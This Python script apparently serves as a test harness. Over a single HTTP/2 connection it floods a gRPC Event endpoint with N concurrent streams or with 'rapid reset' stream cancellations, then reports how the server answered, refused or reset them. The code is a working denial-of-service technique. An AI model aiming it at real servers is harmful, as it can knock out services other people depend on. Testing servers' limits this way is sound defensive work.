"""Abuses one HTTP/2 connection the way no well-behaved client does, and reports what the server did.

    python h2_abuse.py streams HOST:PORT TOKEN N   # open N Event streams at once on one connection
    python h2_abuse.py resets HOST:PORT TOKEN N    # open and at once cancel N streams ("rapid reset")

Prints one JSON line: how many streams were answered, refused or reset, and the GOAWAY error code
if the server closed the connection. Every wait is bounded; the script never retries.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

DEADLINE_SECS = 20


def request_headers(authority, token):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", authority),
        (":path", "/wechaty.Puppet/Event"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", "Wechaty " + token),
    ]


def main():
    mode, addr, token, n = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=DEADLINE_SECS)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = request_headers(addr, token)
    empty_message = b"\x00\x00\x00\x00\x00"  # a gRPC frame holding an empty EventRequest

    # Everything is sent before the server's SETTINGS is read, so the client's own limits do not
    # hold it back: the server alone must enforce its limits.
    sent = 0
    for _ in range(n):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers)
        if mode == "streams":
            conn.send_data(stream_id, empty_message, end_stream=True)
        else:
            conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
        sent += 1
        if sent % 100 == 0:
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                break
    try:
        sock.sendall(conn.data_to_send())
    except OSError:
        pass

    answered, refused, reset_other, goaway = set(), set(), set(), None
    closed = False
    deadline = time.monotonic() + DEADLINE_SECS
    while time.monotonic() < deadline and not closed:
        if mode == "streams" and len(answered) + len(refused) + len(reset_other) >= sent:
            break
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except (socket.timeout, OSError):
            break
        if not data:
            closed = True
            break
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            closed = True
            break
        for event in events:
            if isinstance(event, h2.events.ResponseReceived):
                answered.add(event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                if event.error_code == h2.errors.ErrorCodes.REFUSED_STREAM:
                    refused.add(event.stream_id)
                else:
                    reset_other.add(event.stream_id)
            elif isinstance(event, h2.events.ConnectionTerminated):
                goaway = int(event.error_code)
                closed = True
        try:
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
        except OSError:
            closed = True
    print(json.dumps({
        "sent": sent,
        "answered": len(answered),
        "refused": len(refused),
        "reset_other": len(reset_other),
        "goaway": goaway,
        "closed": closed,
    }))


if __name__ == "__main__":
    main()
